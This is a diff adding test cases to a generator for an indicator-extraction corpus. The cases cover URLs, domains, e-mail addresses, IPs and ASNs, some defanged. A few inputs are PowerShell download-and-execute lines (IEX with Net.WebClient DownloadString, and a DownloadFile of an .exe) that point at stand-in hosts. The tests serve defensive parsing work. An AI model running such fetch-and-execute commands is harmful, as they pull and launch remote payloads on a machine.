@@ -461,6 +461,37 @@ add("urls: http://a-bad.com/1 http://b-bad.com/2", "URL http://a-bad.com/1 ; URL
 add("Tor: hxxp://2gzyxa5ihm7nsggfxnu52rck2vv4rvmdlkiu3zzui5du4xyclen53wid[.]onion", "URL http://2gzyxa5ihm7nsggfxnu52rck2vv4rvmdlkiu3zzui5du4xyclen53wid.onion/")
 add("evil-domain[.]com/path/to/kit.zip", "URL http://evil-domain.com/path/to/kit.zip", note="defanged")
 
+# ---------- text written by others: the classes of misses met in other projects' test suites (issue 12)
+# a URL in code ends at its closing quote or at a bracket it did not open
+add("$wc.DownloadString('https://evil-domain[.]com/rdp.ps1');", "URL https://evil-domain.com/rdp.ps1", note="defanged")
+add("powershell -c \"IEX(New-Object Net.WebClient).DownloadString('http://bad-host.ru/a.ps1');Start-Sleep 1\"", "URL http://bad-host.ru/a.ps1")
+add("$c.DownloadFile('http://bad-host.ru/a.exe','C:\\a.exe')", "URL http://bad-host.ru/a.exe")
+add("fetch('https://api.bad-host.ru/v1/items?id=3').then(r => r)", "URL https://api.bad-host.ru/v1/items?id=3")
+add("url='https://bad-host.ru/a'+b", "URL https://bad-host.ru/a")
+add("see https://en.wikipedia.org/wiki/Foo_(bar) and (https://bad-host.ru/x)", "URL https://en.wikipedia.org/wiki/Foo_(bar) ; URL https://bad-host.ru/x", note="benign=common-domains")
+# Markdown links: the text and the target are two URLs, not one glued
+add("[https://i.imgur.com/abc.png](https://i.imgur.com/abc.png)", "URL https://i.imgur.com/abc.png ; URL https://i.imgur.com/abc.png")
+add("[hxxp://bad-host[.]ru/y](hxxp://bad-host[.]ru/y)", "URL http://bad-host.ru/y ; URL http://bad-host.ru/y", note="defanged")
+add("![logo](https://cdn.bad-host.ru/p.png) and [click](http://bad-host.ru/c?a=1)", "URL https://cdn.bad-host.ru/p.png ; URL http://bad-host.ru/c?a=1")
+add("<https://bad-host.ru/angle> and \"https://bad-host.ru/dq\",", "URL https://bad-host.ru/angle ; URL https://bad-host.ru/dq")
+# a suffix in capitals after a name in lower case; not after a capitalised word (code)
+add("Visit bad-host.COM or mail.bad-host.CO.UK and evil-domain.NET today", "DOMAIN bad-host.com ; DOMAIN mail.bad-host.co.uk ; DOMAIN evil-domain.net")
+add("bar.COM", "DOMAIN bar.com")
+add("Use Foo.Bar.NET and Console.IO here", "none")
+# an underscore in a host label below the registered domain (DNS allows it); never in the registered name
+add("https://o_o.bad-host.nl/ and o_o.bad-host.nl and a_b.c_d.bad-host.nl", "URL https://o_o.bad-host.nl/ ; DOMAIN o_o.bad-host.nl ; DOMAIN a_b.c_d.bad-host.nl")
+add("bad_host.nl", "none")
+# an address tagged inside an e-mail address literal (RFC 5321)
+add("jsmith@[IPv6:2a03:2880:f10c::1]", "IPV6 2a03:2880:f10c::1")
+add("jsmith@[IPV6:2a03:2880:f10c::2] and postmaster@[5.188.10.1]", "IPV6 2a03:2880:f10c::2 ; IPV4 5.188.10.1")
+# a local part with RFC 5322 symbols is taken whole, never its tail
+add("foo#bar@bad-host.ru", "EMAIL foo#bar@bad-host.ru")
+add("a!b$c%d@bad-host.ru and x~y@bad-host.ru", "EMAIL a!b$c%d@bad-host.ru ; EMAIL x~y@bad-host.ru")
+add("'john@bad-host.ru' and ?email=bob@bad-host.ru&x=1 and mailto:eve@bad-host.ru", "EMAIL john@bad-host.ru ; EMAIL bob@bad-host.ru ; EMAIL eve@bad-host.ru")
+# autonomous systems in any case, with or without a space; "as 2020" is prose
+add("asn1234 and asn 4321 and Asn 5678 and as13335 and ASN 64500", "ASN AS1234 ; ASN AS4321 ; ASN AS5678 ; ASN AS13335 ; ASN AS64500")
+add("as 2020 began. As 1990 ended, as 5 days", "none")
+
 with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "corpus.tsv"), "w", encoding="utf-8") as f:
     f.write("# Indicator extraction corpus: region (- for none) TAB input (\\n = newline, \\t = tab) TAB expected\n")
     f.write("# (TYPE value, several separated by ' ; ', in order of position; 'none' = nothing may be found) TAB note\n")
